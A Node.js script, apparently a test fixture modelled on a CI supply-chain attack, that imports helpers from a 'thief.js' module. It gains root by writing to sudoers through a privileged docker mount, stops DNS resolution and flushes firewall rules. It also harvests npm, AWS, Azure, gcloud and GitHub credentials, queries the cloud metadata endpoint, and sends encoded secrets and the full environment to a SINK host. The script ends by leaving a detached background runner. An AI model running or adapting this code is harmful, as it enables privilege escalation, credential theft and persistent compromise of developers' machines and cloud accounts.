// The program. `sudo`, `docker`, `systemctl` and `iptables` are the fixtures' stand-ins.
const { spawn, spawnSync } = require("child_process");
const fs = require("fs");
const { encode, drop, send, sweep } = require("./thief.js");

const { HOME, SINK } = process.env;
const run = (...line) => spawnSync(line[0], line.slice(1), { encoding: "utf8", maxBuffer: 64 << 20 }).stdout ?? "";

async function main() {
  run("sudo", "-n", "true");
  run("docker", "run", "--rm", "--privileged", "-v", "/:/host", "image", "bash", "-c", "cp runner /host/etc/sudoers.d/");
  run("sudo", "systemctl", "stop", "systemd-resolved");
  run("sudo", "iptables", "-t", "filter", "-F", "OUTPUT");
  run("sudo", "iptables", "-t", "filter", "-F", "DOCKER-USER");

  // The scanner is dropped and run.
  const scanner = `${HOME}/.scanner-cache/scanner`;
  fs.mkdirSync(`${HOME}/.scanner-cache`, { recursive: true });
  fs.writeFileSync(scanner, `#!/usr/bin/env python3\n${fs.readFileSync(`${__dirname}/sweep.py`, "utf8")}`, { mode: 0o755 });
  const scanned = run(scanner, "filesystem", HOME, "--json");

  const contents = sweep([".npmrc", ".aws/credentials", ".azure/accessTokens.json", ".config/gcloud/credentials.db"]);
  let cloud = await send("GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/ci");
  for (const region of ["one", "two", "three"]) {
    cloud += await send("POST", `http://${SINK}/${region}/secrets`, "{}");
  }

  const token = /oauth_token: (\S+)/.exec(sweep([".config/gh/hosts.yml"]))?.[1] ?? "";
  const environment = JSON.stringify(process.env);
  for (const [name, text] of Object.entries({ contents, environment, cloud, scanned })) {
    await drop(token, `${name}.json`, encode(text, 3));
  }

  const runner = `${HOME}/.dev-env`;
  fs.mkdirSync(runner, { recursive: true });
  fs.writeFileSync(`${runner}/run.sh`, "#!/bin/sh\nexit 0\n", { mode: 0o755 });
  spawn("nohup", ["./run.sh"], { cwd: runner, env: { ...process.env, RUNNER_TRACKING_ID: "0" }, detached: true, stdio: "ignore" });
}

main();
